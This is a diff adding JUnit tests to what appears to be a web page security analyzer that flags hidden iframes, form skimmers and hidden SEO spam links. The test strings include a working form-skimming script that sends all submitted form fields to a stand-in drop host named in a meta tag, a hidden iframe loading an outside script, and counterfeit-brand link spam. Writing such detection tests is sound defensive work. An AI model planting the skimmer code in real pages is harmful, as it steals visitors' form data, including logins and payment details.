@@ -197,4 +197,38 @@ class PageAnalyzerTest {
         .doesNotContain("web.defacement");
     assertThat(checks("<p>Guests are touched by the warm hospitality of our staff.</p>")).doesNotContain("web.defacement");
   }
+
+  @Test
+  void framesStylesheetsConfigAndDeclaredHosts() {
+    PageFacts srcdoc = analyze("<iframe srcdoc=\"<script src='https://frame-js.example/s.js'></script>\" "
+        + "style=\"display:none\"></iframe>");
+    assertThat(srcdoc.resources()).anyMatch(r -> r.kind() == Kind.SCRIPT && r.url().getHost().equals("frame-js.example"));
+    assertThat(srcdoc.observations()).extracting(Observation::check).contains("web.hidden-iframe");
+    assertThat(analyze("<link rel=\"preload\" as=\"style\" href=\"https://css.example/a.css\">").resources())
+        .anyMatch(r -> r.kind() == Kind.STYLESHEET);
+    // a drop URL kept in a meta tag of the page's own naming reaches the script that reads it
+    assertThat(checks("<meta name=\"x-endpoint\" content=\"https://drop.example/r\"><script>document.addEventListener('submit',"
+        + "function(e){fetch(document.querySelector('meta[name=x-endpoint]').content,{method:'POST',body:JSON.stringify("
+        + "Object.fromEntries(new FormData(e.target)))})});</script>")).contains("web.skimmer");
+    assertThat(checks("<meta property=\"og:image\" content=\"https://cdn.example/o.jpg\"><script>document.addEventListener("
+        + "'submit',function(e){fetch('/api',{method:'POST',body:JSON.stringify(Object.fromEntries(new FormData(e.target)))})"
+        + "});</script>")).doesNotContain("web.skimmer");
+    PageFacts hosts = analyze("<img srcset=\"https://img.srcset.example/a.jpg 2x\"><div style=\"background:url(//bg.example/b.png)"
+        + "\"></div><link rel=\"canonical\" href=\"https://other-site.example/x\"><link rel=\"alternate\" type=\"application/"
+        + "rss+xml\" href=\"https://feeds.example/rss\">");
+    assertThat(hosts.hostsMentioned()).contains("img.srcset.example", "bg.example");
+    assertThat(hosts.declaredHosts()).containsExactly("other-site.example");
+  }
+
+  @Test
+  void brandLinksTogetherAndLinkListsBehindAccessibilityClasses() {
+    String one = "<a href=\"https://brand.example/lv\">ルイヴィトン 財布 激安</a>";
+    String more = one + "<a href=\"https://brand.example/gucci\">グッチ バッグ 通販</a>";
+    assertThat(checks("<p>" + one + "</p>")).doesNotContain("web.seo-spam");
+    assertThat(checks("<p>" + more + "</p>")).contains("web.seo-spam");
+    // screen-reader text is left alone; a list of other sites' links in a screen-reader class is not screen-reader text
+    assertThat(checks("<span class=\"sr-only\">（新しいウィンドウで開きます）</span>")).isEmpty();
+    assertThat(checks("<div class=\"sr-only\"><a href=\"https://a.example/\">ルイヴィトン 財布</a><a href=\"https://b.example/\">"
+        + "シャネル 通販</a><a href=\"https://c.example/\">ロレックス 新作</a></div>")).contains("web.seo-spam");
+  }
 }
